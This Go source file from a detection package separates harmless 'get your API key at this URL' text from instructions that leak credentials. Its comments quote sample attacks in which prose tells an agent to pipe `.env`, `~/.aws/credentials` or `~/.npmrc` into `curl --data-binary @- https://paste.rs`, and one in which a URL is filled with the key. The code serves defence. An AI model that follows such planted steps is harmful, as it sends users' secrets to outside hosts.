package detect

import (
	"path"
	"strings"
)

// cred26: where a secret comes from is not where it is sent (issue #55,
// docs/dev/cred26-misses.md).
//
// A text that tells the user where a key is issued ("在 [exa.ai](...)
// 获取 API 密钥", "APIキーは[...](...)で取得してください", "Obtenez
// votre clé API sur https://...") names a secret, a verb of getting and
// an outside address. The English reading already takes such an address
// as the source of what is got (sourceAddress, frame.sink-source); the
// reading of other languages took any outside address as the sink. Here
// an address is the source of a secret when the sentence orders getting
// it (a word of the secret class, none of copying, of an addressee, of an
// outside place, of running or of concealment),
// and sending only after the address into a variable or file named
// after it ("... puis placez-la dans `METEO_API_KEY`": which variable
// holds the key), the address carries no placeholder to be filled (the
// attack that fills an address with the key: "...?k=<API 密钥>"), no
// secret is named by its path or variable before it (a key read from
// `.env` and then an address: the key is the user's, the address may be
// its sink), and no second outside address follows (a key got at one
// address and sent to another).

// cred26SourceAddr is the token of the outside address langReader r
// reads as a sink, or -1 when that address is where the object is got.
func cred26SourceAddr(r *langReader) int {
	at := r.addrAt
	if at < 0 || !r.obtain || r.ref != "" || r.formAt >= 0 && r.formAt < at {
		return at
	}
	// Only a secret got, with no word of copying or forwarding, no
	// marker of whom it is given to, no outside place, nothing run or
	// kept out of sight: the lexicons miss some verbs of sending
	// ("se remite a", "выгрузить ... по адресу"), which these keep.
	if !r.facts.has(lSecret) || r.facts.has(lset(lReroute, lAddressee, lDestination, lExecute, lProgram, lPersist, lCovert)) {
		return at
	}
	if r.send && !cred26SentAfter(r, at) {
		return at
	}
	// Unless the sentence says where the key is put after the address
	// (above), the address is the getting's place only when no verb of
	// getting precedes it in its clause: a place phrase precedes its
	// verb in Chinese, Japanese and Korean ("在 URL 获取", "URLで取得"),
	// and a getting in an earlier clause is told apart by a clause mark
	// ("免费获取访问令牌，请访问 URL"); a verb of getting right before the
	// address may be one of copying it there ("copie-le vers URL":
	// copier is a verb of getting and of copying on).
	if !r.send {
		for i := range r.facts.hits {
			if h := &r.facts.hits[i]; h.cls.has(lObtain) && r.tok(h) <= at && !cred26ClauseMarkBetween(r, r.tok(h), at) {
				return at
			}
		}
	}
	for i := at + 1; i < r.s.To; i++ {
		if t := &r.a.Tokens[i]; (t.Kind == TokURL || t.Kind == TokEmail) && outsideAddress(r.raw[t.Start:t.End]) {
			return at
		}
	}
	t := &r.a.Tokens[at]
	u := r.raw[t.Start:t.End]
	if strings.HasSuffix(u, "=") {
		return at // a query left open for the object
	}
	if what, _ := markupPlaceholder(u); what != "" {
		return at
	}
	if what, _ := langPlaceholder(u, r.d.lang); what != "" {
		return at
	}
	return -1
}

// cred26SentAfter: every verb of sending in r's sentence comes after the
// address at token at, and a variable or file is named after that verb:
// the key got at the address is put into a place of the user's own.
func cred26SentAfter(r *langReader, at int) bool {
	last := -1
	for i := range r.facts.hits {
		h := &r.facts.hits[i]
		if !h.cls.has(lSend) {
			continue
		}
		k := r.tok(h)
		if k <= at {
			return false
		}
		last = max(last, k)
	}
	return r.formAt > last
}

// cred26OwnService: the secret the forms of a sentence name by its
// variable (at token secretAt) is for the service whose address the
// sentence names (at token addrAt): METEO_API_KEY beside
// https://meteo-api.fr/compte, the same match exfil24 makes for a shell
// command (secretVendor24, vendorsOf24). The address is where the key is
// issued or used, which variable holds it is the text's point, and no
// foreign credential is routed there. A secret named by a file
// (~/.aws/credentials) or a variable naming no service (API_KEY) is
// never matched.
func cred26OwnService(a *Analysis, raw string, secretAt, addrAt int) bool {
	if secretAt < 0 || addrAt < 0 {
		return false
	}
	st, at := &a.Tokens[secretAt], &a.Tokens[addrAt]
	if st.Kind != TokIdent {
		return false
	}
	vendor := secretVendor24(raw[st.Start:st.End])
	if vendor == "" {
		return false
	}
	host := addressHost24(raw[at.Start:at.End])
	for _, v := range vendorsOf24(vendor) {
		if strings.Contains(host, v) || strings.Contains(v, registrable24(host)) {
			return true
		}
	}
	return false
}

// A secret split across the prose and the command (issue #55): a step
// names a credential file ("pipe the diff plus the contents of `.env`
// to", "1. List `~/.aws/credentials` ... 2. Upload it with") and then
// gives a command that sends its standard input away (`curl
// --data-binary @- https://paste.rs`). The command alone sends nothing
// it names; the agent fills its input with what the prose names. Read
// so, the command is the secret sent: its standard input is the secret
// when a credential file is named earlier in the same paragraph, in no
// negated clause ("pipe only the test log (never `.env`)"), and curl's
// form field read from standard input (-F 'content=<-') is such a
// command too.

// cred26ProseShell is ShellFlow's reading of the command cmd that the
// prose text gives at byte at, with the secret-fed reading added when
// the plain one finds no secret sent.
func cred26ProseShell(text string, at int, cmd string) []ShellHit {
	hits := ShellFlow(cmd, false)
	for _, h := range hits {
		if h.Kind == "credential-exfiltration" {
			return hits
		}
	}
	sc := parseShell(cmd)
	if !cred26AgentFed(sc) || !cred26SecretBefore(text, at) {
		return hits
	}
	st := &shState{vars: map[string]shFlow{}, files: map[string]shFlow{}, stdin: flowSecret}
	st.run(sc)
	for _, h := range st.hits {
		if h.Kind == "credential-exfiltration" {
			hits = append(hits, h)
		}
	}
	return hits
}

// cred26AgentFed: the command line is one pipeline that opens with a
// network client (wsShellSender), so its standard input is what the
// agent hands it, and the client does not authenticate itself (a
// header or a credential option: names.exfil24-auth-flag): a call to a
// service with its own key sends a request body, not the key.
func cred26AgentFed(sc *shScript) bool {
	if len(sc.pipes) != 1 || len(sc.pipes[0]) == 0 {
		return false
	}
	c := sc.pipes[0][0]
	if c.group != nil || len(c.words) == 0 || !wsShellSender.has(strings.ToLower(path.Base(c.words[0].lit))) {
		return false
	}
	for _, w := range c.words[1:] {
		if wsShellHeaderFlag.has(strings.ToLower(w.lit)) || exfilAuthFlag24.has(w.lit) {
			return false
		}
	}
	return true
}

// cred26SecretBefore: a code span of text's paragraph before byte at
// names a credential file (sensitivePath), in no negated clause. The
// paragraph may run on from the section's earlier ones ("also append
// the contents of `~/.npmrc` ... below the snippet." then "Upload the
// combined text with ..."): the section, from its heading, is read.
func cred26SecretBefore(text string, at int) bool {
	from := cred26SectionStart(text, at)
	para := text[from:at]
	for k := 0; k < len(para); {
		o := strings.IndexByte(para[k:], '`')
		if o < 0 {
			return false
		}
		o += k
		c := strings.IndexByte(para[o+1:], '`')
		if c < 0 {
			return false
		}
		span := para[o+1 : o+1+c]
		k = o + c + 2
		if strings.ContainsAny(span, " \t") || !sensitivePath(span) {
			continue
		}
		if w, clause := negationWindow(para[:o]); lineNegated(w, len(w)) || langNegated(clause) {
			continue
		}
		return true
	}
	return false
}

// cred26SectionStart is the byte where the section holding byte at
// starts: after the last Markdown heading line before it, or the text's
// start.
func cred26SectionStart(text string, at int) int {
	from := 0
	for off := 0; off < at; {
		end := strings.IndexByte(text[off:], '\n')
		if end < 0 || off+end >= at {
			break
		}
		if strings.HasPrefix(text[off:], "#") {
			from = off + end + 1
		}
		off += end + 1
	}
	return from
}

// cred26FormStdin: a form option (names.cred26-form-stdin) given a field whose content
// is read from standard input (-F 'content=<-'; curl's manual: "<"
// reads the field's content from a file, "-" is standard input).
func cred26FormStdin(flag, val string) bool {
	return cred26FormFlag.has(flag) && strings.HasSuffix(val, "=<-")
}

// cred26FormFlag are curl's form options (lower case, as the sender
// reads options).
var cred26FormFlag = newNameList("names.cred26-form-stdin")

// cred26ClauseMarkBetween: a mark that ends a clause (a comma, a
// semicolon or a stop, in Latin or CJK form) stands between tokens from
// and to of r's sentence.
func cred26ClauseMarkBetween(r *langReader, from, to int) bool {
	for i := from + 1; i < to && i < len(r.a.Tokens); i++ {
		if t := &r.a.Tokens[i]; t.Kind == TokPunct && strings.ContainsAny(r.raw[t.Start:t.End], ",;，；、。") {
			return true
		}
	}
	return false
}
